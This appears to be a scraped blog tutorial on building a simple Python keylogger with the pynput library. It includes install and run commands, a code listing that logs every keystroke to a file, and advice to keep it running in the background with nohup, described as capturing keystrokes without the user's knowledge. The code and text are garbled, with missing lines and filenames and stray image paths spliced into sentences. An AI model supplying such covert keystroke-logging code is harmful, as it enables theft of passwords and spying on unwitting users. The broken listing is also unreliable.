keylogger in python

Keylogger in Python | A Simple Code


In this post, Let’s see how to create a simple and free keylogger in python and below is the video format of the post and if you have any doubts comment down below


What is a Keylogger ?

Now, keyloggers can be pretty handy for monitoring network activity and fixing technical glitches. But here’s the catch: some shady software out there uses keyloggers to snatch up login details and other personal info.

So, while it’s cool to learn about this stuff, let’s keep it above board, okay? We’re here to expand our knowledge, not cause any trouble. Sound good?Let’s dive in!

To Learn More About Keylogger [Click Here]

Install Pynput

To begin, you’ll need to install a specific library called pynput. Simply type the following command into your terminal to install pynput.

sudo pip3 install pynput

The pynput library offers the functionality to monitor and manage input devices, especially the keyboard. It enables you to listen for input events, such as keystrokes.

Python Keylogger

To create the keylogger, open the terminal and use the nano text editor by typing:


Then, add the following code:

rom pynput.keyboard import Key, Listener
import logging

logging.basicConfig(filename=("capture.txt"), level=logging.DEBUG, format=" %(asctime)s - %(message)s")

def on_press(key):with Listener(on_press=on_press) as listener :

This code creates a keylogger, which is a program that records keystrokes made on a keyboard. It uses two main libraries:

  1. pynput: This libraryallows the program to monitor the keyboard and capture key presses.
  2. logging: This library allows the program to write messages to a log file.

When the program is executed, it starts monitoring the keyboard. Every key press is recorded and saved to a file called “capture.txt”. The program continues running in the background, silently capturing keystrokes without the user’s knowledge.

To use the keylogger, save the code into a Python file and run it. Once running, it will start capturing keystrokes and saving them to “capture.txt”.

nohup python3 &

This command allows the keylogger script to keep running even if you close the terminal, ensuring that it continues to record all keystrokes.

Once you launch the keylogger, you’ll notice a new file called “capture.txt” appearing in the current directory. This file stores all the keystrokes that are recorded. For instance, if I type something…

Ads Blocker Image Powered by Code Help Pro

Ads Blocker Detected!!!

We have detected that you are using extensions or brave browser to block ads. Please support us bydisabling these ads blocker.Our website is made possible bydisplaying Ads hope you whitelistour site. We use very minimal Adsin our site


Scroll to Top